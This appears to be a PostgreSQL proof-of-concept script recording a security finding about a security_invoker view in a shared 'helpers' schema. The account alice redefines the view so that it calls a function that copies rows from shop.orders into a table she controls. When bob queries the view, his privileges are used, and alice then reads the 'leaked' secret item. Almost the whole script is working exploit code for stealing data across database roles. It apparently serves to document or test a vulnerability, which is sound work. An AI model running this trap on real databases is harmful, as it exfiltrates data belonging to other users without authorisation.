-- finding: anothers-code helpers.recent
-- people: alice@example.com
-- server: 15..
CREATE SCHEMA helpers AUTHORIZATION "alice@example.com"; GRANT USAGE ON SCHEMA helpers TO PUBLIC;
CREATE VIEW helpers.recent WITH (security_invoker) AS SELECT item, owner FROM shop.orders;
ALTER VIEW helpers.recent OWNER TO "alice@example.com";
GRANT SELECT ON helpers.recent TO order_users;
-- first as postgres
CREATE OR REPLACE VIEW helpers.recent WITH (security_invoker) AS SELECT item, owner FROM shop.orders;
-- first as alice@example.com
DROP TABLE IF EXISTS helpers.taken;
CREATE TABLE helpers.taken (item text); GRANT INSERT ON helpers.taken TO PUBLIC;
CREATE OR REPLACE FUNCTION helpers.take() RETURNS text LANGUAGE sql
  AS $$ INSERT INTO helpers.taken SELECT item FROM shop.orders; SELECT '' $$;
-- first as alice@example.com
CREATE OR REPLACE VIEW helpers.recent WITH (security_invoker) AS SELECT item, owner || helpers.take() AS owner FROM shop.orders;
-- first as bob@example.com
SELECT * FROM helpers.recent;
-- leak as alice@example.com
SELECT item FROM helpers.taken WHERE item = 'secret';
